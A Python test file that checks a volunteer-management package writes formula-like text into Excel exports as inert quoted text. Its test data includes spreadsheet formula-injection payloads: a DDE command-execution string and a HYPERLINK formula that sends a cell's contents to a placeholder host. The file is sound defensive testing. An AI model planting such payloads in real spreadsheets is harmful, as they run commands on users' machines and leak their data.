"""Text that looks like a formula is written to every workbook as text, never as a live formula."""

from __future__ import annotations

import ast
import zipfile
from datetime import date
from pathlib import Path

from openpyxl import load_workbook

from wulian_desk.core.roster import RosterColumn
from wulian_desk.reports.roster_template import write_template
from wulian_desk.reports.workbook import write_sheets, write_workbook

PACKAGE = Path(__file__).resolve().parents[2] / "wulian_desk"

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A3,"点击查看")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "#REF!",
]


def _cells(path: Path):
    book = load_workbook(path)  # not read-only: quotePrefix is read from the cell style
    for ws in book.worksheets:
        for row in ws.iter_rows():
            yield from row


def _assert_text(path: Path, values: list[str]) -> None:
    values = [v.replace("\r", "\n") for v in values]  # XML reads a stored CR back as LF
    found = {c.value: c for c in _cells(path) if c.value in values}
    assert set(found) == set(values)
    for value, cell in found.items():
        assert cell.data_type == "s", value
        assert cell.quotePrefix, value


def test_a_list_export_writes_formula_like_text_as_text(tmp_path):
    rows = [[name, 3, -12.5, date(2026, 3, 1)] for name in HOSTILE]
    out = write_workbook(tmp_path / "list.xlsx", title="志愿者", headers=["姓名", "次数", "金额", "日期"], rows=rows)
    _assert_text(out, HOSTILE)
    with zipfile.ZipFile(out) as package:
        sheet = package.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet  # no formula element at all
    book = load_workbook(out)
    ws = book.active
    # Real numbers stay numbers, negative ones included; dates stay dates.
    assert [ws.cell(row=3, column=c).data_type for c in (2, 3, 4)] == ["n", "n", "d"]
    assert ws.cell(row=3, column=3).value == -12.5
    assert not ws.cell(row=3, column=3).quotePrefix


def test_titles_headers_and_every_sheet_are_guarded(tmp_path):
    out = write_sheets(tmp_path / "book.xlsx", [
        ("一", "=1+1", ["+h"], [["-x"]]),
        ("二", "标题", ["@h"], [["=A1"]]),
    ])
    _assert_text(out, ["=1+1", "+h", "-x", "@h", "=A1"])


def test_ordinary_text_is_left_as_it_is(tmp_path):
    out = write_workbook(tmp_path / "plain.xlsx", title="名单", headers=["姓名"], rows=[["张秀英"], ["a=b"], ["—"]])
    cells = {c.value: c for c in _cells(out)}
    assert not cells["张秀英"].quotePrefix and not cells["a=b"].quotePrefix and not cells["—"].quotePrefix


def test_control_characters_an_xlsx_cannot_hold_do_not_break_the_export(tmp_path):
    out = write_workbook(tmp_path / "ctrl.xlsx", title="名单", headers=["姓名"], rows=[["张\x07秀\x00英"]])
    assert "张秀英" in [c.value for c in _cells(out)]


def test_the_roster_template_guards_its_text(tmp_path):
    columns = [RosterColumn("name", "=姓名", True, "+说明", "=HYPERLINK(\"x\")")]
    out = write_template(tmp_path / "template.xlsx", title="花名册", columns=columns)
    _assert_text(out, ["=姓名 *", "=HYPERLINK(\"x\")"])


def _calls(tree: ast.AST) -> list[str]:
    return [ast.unparse(n.func) for n in ast.walk(tree) if isinstance(n, ast.Call)]


def test_every_module_that_makes_a_workbook_writes_through_the_guard():
    makers = []
    for path in PACKAGE.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if "openpyxl" not in text or "Workbook(" not in text:
            continue
        makers.append(path.name)
        tree = ast.parse(text)
        direct = [c for c in _calls(tree) if c.endswith((".append", ".cell")) and c.split(".")[0] in ("ws", "notes", "sheet")]
        assigned = [ast.unparse(t) for n in ast.walk(tree) if isinstance(n, ast.Assign) for t in n.targets
                    if ast.unparse(t).endswith(".value")]
        assert "append_row" in text, path
        assert [c for c in direct if c.endswith(".append")] == [], path
        assert assigned == [], path
    assert sorted(makers) == ["roster_template.py", "workbook.py"]
